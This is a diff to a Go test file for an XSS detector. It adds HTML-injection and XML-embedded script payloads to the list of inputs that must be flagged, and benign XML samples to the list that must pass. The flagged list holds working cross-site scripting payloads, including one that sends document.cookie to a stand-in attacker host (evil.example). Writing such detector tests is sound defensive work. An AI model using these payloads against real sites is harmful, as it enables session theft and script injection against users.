@@ -18,7 +18,8 @@ func TestXSS(t *testing.T) {
 		"<form action=javascript:alert(1)><input type=submit>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
 		"<base href=//evil.example/>", "<div style=\"background:url(javascript:alert(1))\">", "<a href=\"jav&#x61;script:alert(1)\">x</a>",
 		"<img src=\"javascript:alert('XSS');\">", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">", "<<SCRIPT>alert(1);//<</SCRIPT>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
-		"<svg><animate onbegin=alert(1) attributeName=x>", "<button popovertarget=x onclick=fetch('//evil.example/'+document.cookie)>go", "<xss onpointerenter=alert(1)>")
+		"<svg><animate onbegin=alert(1) attributeName=x>", "<button popovertarget=x onclick=fetch('//evil.example/'+document.cookie)>go", "<xss onpointerenter=alert(1)>",
+		"\"><h1>hacked</h1>", "x' /><b>y", "<?xml version=\"1.0\"?><a xmlns=\"http://www.w3.org/1999/xhtml\" onclick=alert(1)>", "<?xml version=\"1.0\"?><script>alert(1)</script>")
 	queries(t, XSS, "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
 		`q={"name":"<img src=x onerror=alert(1)>"}`, "%3Cscript%3Ealert(1)%3C/script%3E", "<script>alert(1)</script>=1")
 }
@@ -30,5 +31,6 @@ func TestNoXSS(t *testing.T) {
 		"style=\"color:red\"", "onclick handlers in react", "onload=function", "javascript: the good parts", "learn javascript",
 		"data:image/png;base64,iVBORw0KGgo=", "what does alert() do", "how to use document.cookie", "eval is evil", "online=1", "option=on",
 		"color: #fff; background: url(image.png)", ".a > .b { color: red }", "AT&T", "R&D; sales", "x => x * 2", "{{name}}", "**bold** _italic_ [link](http://example.com)",
-		"prompt(ly) delivered", "script for a play", "image src attribute", "Generic<T extends Base>", "5 > 3", "<=10", ">=1.2.0 <2.0.0")
+		"prompt(ly) delivered", "script for a play", "image src attribute", "Generic<T extends Base>", "5 > 3", "<=10", ">=1.2.0 <2.0.0",
+		"<Filter xmlns=\"http://www.opengis.net/ogc\"><PropertyIsEqualTo><PropertyName>a</PropertyName><Literal>1</Literal></PropertyIsEqualTo></Filter>", "<?xml version=\"1.0\"?><request><id>5</id></request>")
 }
